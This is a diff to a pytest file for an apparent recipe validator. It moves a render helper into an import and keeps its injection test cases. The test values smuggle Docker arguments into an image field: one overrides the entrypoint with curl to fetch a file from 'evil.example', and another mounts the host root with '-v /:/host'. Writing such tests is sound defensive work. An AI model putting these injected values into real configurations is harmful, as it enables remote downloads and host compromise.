@@ -7,16 +7,14 @@ in a real bash."""
 
 from __future__ import annotations
 
-import subprocess
-import sys
 from pathlib import Path
 
 import pytest
 
 from tests.conftest import check_tree, line_of
+from tests.render.test_render_shell_warnings import _render
 from tests.rules.ref.test_ref_shell_code import CHAT, _default_rendering, _edit, bash
 
-PROJECT = Path(__file__).resolve().parents[3]
 INJECTED = ("--entrypoint=/usr/bin/curl vllm/vllm-openai:v0.23.0 -o/tmp/x "
             "http://evil.example/x")
 
@@ -25,14 +23,6 @@ def _with_image(root: Path, image: str) -> str:
     return _edit(root, '  model_id: "example-org/Example-Chat-8B"\n',
                  '  model_id: "example-org/Example-Chat-8B"\n'
                  f'  docker_image:\n    nvidia: "{image}"  # recipe-check: ignore[VER004]\n')
-
-
-def _render(root: Path) -> str:
-    done = subprocess.run([sys.executable, "-m", "validator", "render", str(root / CHAT)],
-                          cwd=PROJECT, capture_output=True, text=True, timeout=300,
-                          check=False)
-    assert done.returncode == 0, done.stderr
-    return done.stdout
 
 
 @pytest.mark.parametrize("image", [INJECTED, "-v /:/host vllm/vllm-openai:v0.23.0",
